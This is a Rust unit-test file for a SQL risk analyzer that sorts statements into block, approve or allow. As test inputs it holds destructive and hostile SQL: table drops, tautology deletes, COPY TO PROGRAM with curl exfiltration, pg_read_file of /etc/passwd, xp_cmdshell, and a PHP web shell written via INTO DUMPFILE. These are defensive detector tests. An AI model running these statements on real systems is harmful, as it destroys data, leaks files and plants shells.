use super::*;
use crate::shield::{SqlDialect, risk_of};

fn cfg(d: SqlDialect) -> ShieldConfig {
    ShieldConfig {
        sql_dialect: d,
        ..ShieldConfig::default()
    }
}

fn run(sql: &str, d: SqlDialect) -> Vec<ShieldFinding> {
    analyze(sql, &cfg(d))
}

fn risk(sql: &str) -> u8 {
    let mut worst = 0;
    for d in [
        SqlDialect::Generic,
        SqlDialect::Postgres,
        SqlDialect::MySql,
        SqlDialect::Sqlite,
    ] {
        let f = run(sql, d);
        worst = worst.max(risk_of(&f));
    }
    worst
}

fn risk_in(sql: &str, d: SqlDialect) -> u8 {
    risk_of(&run(sql, d))
}

fn ids(sql: &str, d: SqlDialect) -> Vec<&'static str> {
    run(sql, d).iter().map(|f| f.id).collect()
}

fn assert_block(sql: &str) {
    for d in [SqlDialect::Generic, SqlDialect::Postgres, SqlDialect::MySql] {
        let f = run(sql, d);
        assert!(
            risk_of(&f) >= 80,
            "{d:?}: expected block for {sql:?}, got {f:#?}"
        );
    }
}

fn assert_approve(sql: &str) {
    for d in [SqlDialect::Generic, SqlDialect::Postgres] {
        let f = run(sql, d);
        let r = risk_of(&f);
        assert!(
            (40..80).contains(&r),
            "{d:?}: expected approve for {sql:?}, got {f:#?}"
        );
    }
}

fn assert_allow(sql: &str) {
    for d in [
        SqlDialect::Generic,
        SqlDialect::Postgres,
        SqlDialect::MySql,
        SqlDialect::Sqlite,
    ] {
        let f = run(sql, d);
        assert!(
            risk_of(&f) < 40,
            "{d:?}: expected allow for {sql:?}, got {f:#?}"
        );
    }
}

#[test]
fn drops_block() {
    assert_block("DROP TABLE users");
    assert_block("drop table if exists public.users cascade");
    assert_block("DrOp   TaBlE\n\t\"Users\"");
    assert_block("DROP/**/TABLE users");
    assert_block("DROP -- hi\nTABLE users");
    assert_block("DROP DATABASE shop");
    assert_block("DROP SCHEMA app CASCADE");
    assert_eq!(
        ids("DROP TABLE `users`", SqlDialect::MySql),
        vec!["database.drop_table"]
    );
    assert_eq!(risk_in("DROP DATABASE prod", SqlDialect::Generic), 100);
    assert_eq!(
        risk_in("DROP SCHEMA \"billing-production\"", SqlDialect::Postgres),
        100
    );
    assert_approve("DROP INDEX idx_users_email");
    assert_approve("DROP VIEW v_report");
}

#[test]
fn truncate_and_alter_block() {
    assert_block("TRUNCATE TABLE users");
    assert_block("truncate users");
    assert_block("ALTER TABLE users DROP COLUMN email");
    assert_block("ALTER TABLE users DROP CONSTRAINT users_pkey");
    assert_approve("ALTER TABLE users ADD COLUMN age int");
    assert_approve("ALTER TABLE users RENAME COLUMN a TO b");
}

#[test]
fn delete_update_without_where() {
    assert_block("DELETE FROM users");
    assert_block("UPDATE users SET admin = true");
    for w in [
        "1=1",
        "true",
        "'a'='a'",
        "1",
        "x=x",
        "NOT false",
        "1<>2",
        "id = 5 OR 1=1",
        "(1 = 1)",
        "2 > 1",
        "name LIKE '%'",
        "NOT (1 = 2)",
        "id = 3 OR (1=1 AND 2=2)",
        "1 IS NOT NULL",
    ] {
        assert_block(&format!("DELETE FROM users WHERE {w}"));
        assert_block(&format!("UPDATE users SET a = 1 WHERE {w}"));
    }
    assert_approve("DELETE FROM users WHERE id = 5");
    assert_approve("UPDATE users SET name = 'x' WHERE id = 5");
    assert_approve("DELETE FROM users WHERE id = 5 AND 1=1");
    assert_approve("DELETE FROM users WHERE created_at < now() - interval '30 days'");
}

#[test]
fn copy_program_and_files() {
    assert_eq!(
        ids(
            "COPY users TO PROGRAM 'curl -d @- http://x'",
            SqlDialect::Postgres
        ),
        vec!["database.copy_program"]
    );
    assert!(risk_in("COPY t FROM PROGRAM 'id'", SqlDialect::Postgres) >= 80);
    assert!(risk_in("COPY t TO '/var/www/shell.php'", SqlDialect::Postgres) >= 80);
    assert!((40..80).contains(&risk_in("COPY t FROM STDIN", SqlDialect::Postgres)));
    assert!(risk_in("COPY t TO STDOUT", SqlDialect::Postgres) < 40);
}

#[test]
fn dangerous_functions_anywhere() {
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_catalog.pg_read_binary_file('x')",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
        "SELECT dblink_exec('host=evil', 'drop table x')",
        "SELECT id FROM users WHERE name = (SELECT LOAD_FILE('/etc/passwd'))",
        "SELECT sys_exec('id')",
        "WITH a AS (SELECT PG_READ_FILE('x') AS c) SELECT c FROM a",
        "SELECT 1 UNION SELECT pg_read_file('x')",
    ] {
        assert!(
            risk(sql) >= 80,
            "{sql}: {:#?}",
            run(sql, SqlDialect::Postgres)
        );
    }
    assert!(risk_in("EXEC xp_cmdshell 'dir'", SqlDialect::Generic) >= 80);
    assert!(risk_in("CALL sys_exec('id')", SqlDialect::MySql) >= 80);
}

#[test]
fn into_outfile() {
    assert!(
        risk_in(
            "SELECT * FROM users INTO OUTFILE '/tmp/u.csv'",
            SqlDialect::MySql
        ) >= 80
    );
    assert!(
        risk_in(
            "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/x.php'",
            SqlDialect::MySql
        ) >= 80
    );
    // Only the words, inside a string, are not code.
    assert_allow("SELECT 'into outfile' AS s");
}

#[test]
fn grants() {
    assert!(risk("GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO agent") >= 80);
    assert_approve("GRANT SELECT ON users TO reporting");
    assert_approve("REVOKE SELECT ON users FROM reporting");
    assert!(risk_in("CREATE ROLE x SUPERUSER", SqlDialect::Postgres) >= 80);
    assert!(risk_in("ALTER ROLE x WITH SUPERUSER", SqlDialect::Postgres) >= 80);
}

#[test]
fn writes_approve() {
    for sql in [
        "INSERT INTO users (name) VALUES ('DROP TABLE users')",
        "CREATE TABLE t (id int)",
        "CREATE INDEX i ON t (a)",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
        "CALL refresh_stats()",
        "INSERT INTO t SELECT * FROM s",
        "CREATE VIEW v AS SELECT 1",
    ] {
        assert_approve(sql);
    }
    assert!((40..80).contains(&risk_in("REPLACE INTO t (a) VALUES (1)", SqlDialect::MySql)));
    assert!((40..80).contains(&risk_in(
        "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2",
        SqlDialect::Postgres
    )));
    assert!((40..80).contains(&risk_in(
        "SET GLOBAL max_connections = 1",
        SqlDialect::MySql
    )));
    assert!(risk_in("SET search_path TO app", SqlDialect::Postgres) < 40);
}

#[test]
fn explain() {
    assert_allow("EXPLAIN SELECT * FROM users");
    assert_allow("EXPLAIN DELETE FROM users");
    assert!(risk_in("EXPLAIN ANALYZE DELETE FROM users", SqlDialect::Postgres) >= 80);
    let r = risk_in(
        "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
        SqlDialect::Postgres,
    );
    assert!((40..80).contains(&r), "{r}");
    assert_allow("EXPLAIN ANALYZE SELECT * FROM users");
    assert!(risk_in("EXPLAIN (ANALYZE) DELETE FROM t", SqlDialect::Postgres) >= 80);
    assert!(
        risk_in(
            "EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM t",
            SqlDialect::Postgres
        ) >= 80
    );
    assert!(risk_in("EXPLAIN (ANALYZE off) DELETE FROM t", SqlDialect::Postgres) < 40);
    assert!(risk_in("explain analyse delete from t", SqlDialect::Postgres) >= 80);
    assert!(
        risk_in(
            "EXPLAIN VERBOSE ANALYZE DELETE FROM t",
            SqlDialect::Postgres
        ) >= 80
    );
}

#[test]
fn writable_cte() {
    assert!(
        risk_in(
            "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x",
            SqlDialect::Postgres
        ) >= 80
    );
    let r = risk_in(
        "WITH x AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM x",
        SqlDialect::Postgres,
    );
    assert!((40..80).contains(&r), "{r}");
    let r = risk_in(
        "WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM x",
        SqlDialect::Postgres,
    );
    assert!((40..80).contains(&r), "{r}");
    assert_allow("WITH x AS (SELECT * FROM users) SELECT * FROM x JOIN orders o ON o.uid = x.id");
}

#[test]
fn stacked() {
    let f = run("SELECT 1; DROP TABLE users", SqlDialect::Generic);
    assert!(risk_of(&f) >= 80);
    assert!(f.iter().any(|f| f.id == "database.multiple_statements"));
    assert!(risk("SELECT * FROM t WHERE id = 1;DELETE FROM t") >= 80);
    // A statement that does not parse does not hide the ones that do.
    let f = run(
        "SELECT 1; THIS IS NOT SQL; DROP TABLE users",
        SqlDialect::Generic,
    );
    assert!(f.iter().any(|f| f.id == "database.unparsed"));
    assert!(
        f.iter()
            .any(|f| f.id == "database.drop_table" && f.risk >= 80),
        "{f:#?}"
    );
}

#[test]
fn reads_allow() {
    for sql in [
        "SELECT * FROM users",
        "select u.id, count(*) from users u join orders o on o.user_id = u.id group by u.id",
        "SELECT 'DROP TABLE users'",
        "SELECT * FROM t -- DROP TABLE t",
        "SELECT * FROM t /* DELETE FROM t */",
        "SHOW TABLES",
        "SELECT \"drop\" FROM \"table\"",
        "SELECT 1; SELECT 2",
        "SELECT * FROM t WHERE a = 'x;DROP TABLE t'",
        "BEGIN; SELECT 1; COMMIT",
    ] {
        assert_allow(sql);
    }
    assert!(risk_in("DESCRIBE users", SqlDialect::MySql) < 40);
    assert!(risk_in("SELECT $$ DROP TABLE x; $$", SqlDialect::Postgres) < 40);
    assert!(run("", SqlDialect::Generic).is_empty());
    assert!(run("  -- only a comment\n", SqlDialect::Generic).is_empty());
}

#[test]
fn mysql_executable_comments() {
    let f = run("SELECT 1 /*! ; DROP TABLE users */", SqlDialect::MySql);
    assert!(risk_of(&f) >= 80, "{f:#?}");
    assert!(f.iter().any(|f| f.id == "database.executable_comment"));
    assert!(risk("SELECT 1 /*!50000 ; DROP TABLE users */") >= 80);
    assert!(risk("/*!DROP TABLE users*/") >= 80);
    let f = run(
        "SELECT /*!40001 SQL_NO_CACHE */ * FROM t",
        SqlDialect::MySql,
    );
    assert!(
        f.iter().any(|f| f.id == "database.executable_comment"),
        "{f:#?}"
    );
    assert!((40..80).contains(&risk_of(&f)));
    // Inside a string it is only text.
    assert_allow("SELECT '/*! DROP TABLE x */'");
}

#[test]
fn unparsed_is_never_silent() {
    let f = run("SELEKT * FRUM users", SqlDialect::Generic);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].id, "database.unparsed");
    assert_eq!(f[0].risk, 60);
    assert!(risk("DROP TABLE users WHERE garbage garbage (") >= 80);
}

#[test]
fn deep_nesting_is_a_finding_not_a_crash() {
    for n in [100, 10_000, 50_000] {
        let sql = format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n));
        let f = run(&sql, SqlDialect::Generic);
        assert!(risk_of(&f) >= 40, "{n}");
        let sql = format!("DELETE FROM t WHERE {}1=1{}", "(".repeat(n), ")".repeat(n));
        assert!(risk_of(&run(&sql, SqlDialect::Postgres)) >= 40);
        let sql = format!("SELECT * FROM t WHERE a = 1{}", " OR a = 1".repeat(n));
        assert!(risk_of(&run(&sql, SqlDialect::Generic)) < 80);
    }
    let sql = format!("SELECT 1{}", " UNION SELECT 1".repeat(20_000));
    assert!(risk_of(&run(&sql, SqlDialect::Generic)) < 80);
    let sql = format!("SELECT a{}", "->b".repeat(50_000));
    let _ = run(&sql, SqlDialect::Postgres);
    let sql = format!("SELECT a{}", "[1]".repeat(50_000));
    assert_eq!(risk_of(&run(&sql, SqlDialect::Postgres)), 60);
    let _ = run(&sql, SqlDialect::Postgres);
    let sql = format!("SELECT {}1", "NOT ".repeat(50_000));
    let _ = run(&sql, SqlDialect::Postgres);
    let sql = format!("SELECT {}1", "- ".repeat(50_000));
    let _ = run(&sql, SqlDialect::Postgres);
    let sql = "SELECT (".repeat(5000);
    assert!(risk_of(&run(&sql, SqlDialect::Generic)) >= 40);
}

#[test]
fn statement_budget() {
    let mut c = cfg(SqlDialect::Generic);
    c.budget.max_units = 3;
    let f = analyze("SELECT 1; SELECT 2; SELECT 3; SELECT 4; SELECT 5", &c);
    assert!(f.iter().any(|f| f.id == "analysis.budget_exceeded"));
    assert!(risk_of(&f) >= 40);
}

#[test]
fn evidence_is_short() {
    let long = format!("DELETE FROM t WHERE a IN ({})", vec!["1"; 2000].join(","));
    for f in run(&long, SqlDialect::Generic) {
        assert!(f.evidence.len() <= 204, "{}", f.evidence.len());
        assert!(!f.explanation.is_empty());
        assert_eq!(f.category, Category::Database);
    }
}

#[test]
fn no_panic_on_odd_input() {
    for s in [
        "'",
        "\"",
        "`",
        "/*",
        "/*!",
        "/*!5",
        "$$",
        "$a$",
        "--",
        ";;;;",
        "\u{0}",
        "é;é",
        "/*!é*/",
        "/*!50000*/",
        "SELECT '\\",
        "$1",
        "a$b$c",
        "DROP",
        "DELETE",
        "\u{202e}DROP TABLE x",
    ] {
        for d in [
            SqlDialect::Generic,
            SqlDialect::Postgres,
            SqlDialect::MySql,
            SqlDialect::Sqlite,
        ] {
            let _ = run(s, d);
        }
    }
}

/// `cargo test -p flowlink-policy --release --lib perf_sql -- --ignored --nocapture`
#[test]
#[ignore = "timing report, run in release"]
fn perf_sql() {
    let c = cfg(SqlDialect::Postgres);
    for sql in [
        "SELECT u.id, u.name FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100 ORDER BY u.id LIMIT 50",
        "UPDATE users SET name = 'x' WHERE id = 5",
        "DROP TABLE users",
        "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x",
        "SELEKT garbage FRUM nowhere",
    ] {
        let n = 20_000;
        let t = std::time::Instant::now();
        for _ in 0..n {
            std::hint::black_box(analyze(std::hint::black_box(sql), &c));
        }
        eprintln!(
            "{:>8.2} µs  {sql}",
            t.elapsed().as_secs_f64() * 1e6 / f64::from(n)
        );
    }
}
